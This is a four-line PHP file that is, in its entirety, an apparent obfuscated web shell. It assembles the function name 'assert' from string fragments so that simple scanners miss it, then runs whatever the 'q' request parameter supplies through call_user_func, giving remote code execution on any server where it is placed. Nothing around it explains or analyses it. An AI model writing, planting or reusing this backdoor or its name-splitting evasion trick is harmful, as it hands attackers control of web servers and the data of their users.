<?php
$x = 'as' . 'se';
$y = $x . 'rt';
call_user_func($y, $_REQUEST['q']);
